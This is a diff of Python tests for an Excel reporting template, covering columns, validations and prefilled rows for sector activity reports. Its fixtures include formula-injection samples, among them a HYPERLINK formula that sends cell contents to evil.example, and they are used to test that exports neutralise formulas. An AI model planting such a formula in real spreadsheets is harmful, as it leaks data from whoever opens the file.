@@ -54,7 +54,7 @@ def validations(sheet) -> dict[str, object]:
         for cell_range in validation.sqref.ranges:
             assert cell_range.min_row == 3
             for column in range(cell_range.min_col, cell_range.max_col + 1):
-                by_letter[columns.COLUMNS[column - 1].field] = validation
+                by_letter[columns.TEMPLATE_COLUMNS[column - 1].field] = validation
     return by_letter
 
 
@@ -71,8 +71,9 @@ def august_lines(org_a, org_b, protection, health, august, alice):
     miraflores = Location.objects.get(code="150122")
     lines = [
         LineFactory(report=pro, department=lima, location=miraflores, description="=1+1 talleres"),
-        LineFactory(report=hea, girls=1, boys=0, women=0, men=0, other=0, modality=Modality.CASH,
-                    cash_usd=Decimal("120.50")),
+        LineFactory(report=hea, girls=1, boys=0, women=0, men=0, other_adults=0,
+                    modality=Modality.CASH, cash_usd=Decimal("120.50"),
+                    delivery_mechanism="prepaid_card"),
     ]
     other = ReportFactory(organisation=org_b, sector=protection, period=august)
     LineFactory(report=other)
@@ -86,8 +87,10 @@ class TestTheWorkbook:
         assert workbook.sheetnames == ["Activities", "Instructions", "Lists"]
         sheet = workbook.active
         assert sheet.title == "Activities"
-        assert tuple(cell.value for cell in sheet[1]) == columns.HEADERS
-        assert tuple(cell.value for cell in sheet[2]) == columns.HXL_TAGS
+        assert tuple(cell.value for cell in sheet[1]) == columns.TEMPLATE_HEADERS
+        assert "Other" not in columns.TEMPLATE_HEADERS  # the legacy column is for old files only
+        assert tuple(cell.value for cell in sheet[2]) == tuple(
+            column.hxl for column in columns.TEMPLATE_COLUMNS)
         assert sheet.freeze_panes == "A3"
         assert sheet.max_row == 2  # no row filled in with only a month and an organisation
 
@@ -140,7 +143,8 @@ class TestTheWorkbook:
         assert "150122" in listed(workbook, "DIST_1501")
 
     def test_a_new_indicator_is_offered_and_a_retired_one_is_not(self, org_a, health):
-        Indicator.objects.create(code="HEA-99", sector=health, name_es="Nuevo", name_en="New")
+        Indicator.objects.create(code="HEA-99", sector=health, name_es="Nuevo", name_en="New",
+                                 plan=Indicator.objects.get(code="HEA-01").plan)
         Indicator.objects.filter(code="HEA-01").update(active=False)
 
         workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))
@@ -165,10 +169,13 @@ class TestTheWorkbook:
             "district": 'IF(ISREF(INDIRECT("DIST_"&$G3)),INDIRECT("DIST_"&$G3),DISTRICT_LIST)',
             "population_type": "POPULATION_TYPE_LIST",
             "modality": "MODALITY_LIST",
+            "rmrp_activity": '"yes,no"',
+            "delivery_mechanism": '"bank_account,mobile_money,prepaid_card,otc,cash_in_hand,'
+                                  'cardless_atm,voucher,other"',
         }
         assert {field for field, rule in rules.items() if rule.type == "whole"} == {
-            "girls", "boys", "women", "men", "other", "new_beneficiaries", "total_monthly",
-            "quantity"}
+            "girls", "boys", "women", "men", "other_under_18", "other_adults",
+            "new_beneficiaries", "total_monthly", "quantity"}
         assert rules["cash_usd"].type == "decimal"
         assert "description" not in rules
         assert all(rule.showErrorMessage and rule.error for rule in rules.values())
@@ -183,7 +190,8 @@ class TestTheWorkbook:
 
         formats = {
             column.field: sheet.column_dimensions[letter].number_format
-            for column, letter in zip(columns.COLUMNS, "ABCDEFGHIJKLMNOPQRST", strict=True)
+            for column, letter in zip(columns.TEMPLATE_COLUMNS, "ABCDEFGHIJKLMNOPQRSTUVWX",
+                                      strict=True)
         }
         assert formats["month"] == formats["department"] == formats["province"] == "@"
         assert formats["girls"] == formats["total_monthly"] == "0"
@@ -231,8 +239,8 @@ class TestPrefill:
         )["Activities"]
 
         rows = [
-            dict(zip(columns.HEADERS, (cell.value for cell in row), strict=True))
-            for row in sheet.iter_rows(min_row=3, max_col=len(columns.HEADERS))
+            dict(zip(columns.TEMPLATE_HEADERS, (cell.value for cell in row), strict=True))
+            for row in sheet.iter_rows(min_row=3, max_col=len(columns.TEMPLATE_HEADERS))
         ]
         assert len(rows) == 2  # Cáritas's line stays with Cáritas
         health_row, protection_row = rows  # in sector order: Health comes before Protection
@@ -249,7 +257,7 @@ class TestPrefill:
         assert protection_row["Quantity"] is None
         # Text, never a formula: neutralised as in the exports (the importer takes it off).
         assert protection_row["Description"] == "'=1+1 talleres"
-        description = columns.HEADERS.index("Description") + 1
+        description = columns.TEMPLATE_HEADERS.index("Description") + 1
         assert sheet.cell(row=4, column=description).data_type == "s"
         assert health_row["Sector"] == "HEA"
         assert health_row["Modality"] == "cash"
@@ -306,7 +314,8 @@ class TestPrefill:
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")'
 LINE_FIELDS = ("indicator__code", "department__code", "location__code", "population_type",
                "modality", "implementing_partner__acronym", "girls", "boys", "women", "men",
-               "other", "new_beneficiaries", "total_monthly", "quantity", "cash_usd",
+               "other_under_18", "other_adults", "other_unknown_age", "new_beneficiaries",
+               "total_monthly", "quantity", "cash_usd",
                "description")
 
 
@@ -360,8 +369,8 @@ def prefilled(client, user) -> bytes:
 def activity_rows(workbook) -> list[dict]:
     sheet = workbook["Activities"]
     return [
-        dict(zip((column.field for column in columns.COLUMNS), row, strict=True))
-        for row in sheet.iter_rows(min_row=3, max_col=len(columns.COLUMNS))
+        dict(zip((column.field for column in columns.TEMPLATE_COLUMNS), row, strict=True))
+        for row in sheet.iter_rows(min_row=3, max_col=len(columns.TEMPLATE_COLUMNS))
     ]
 
 
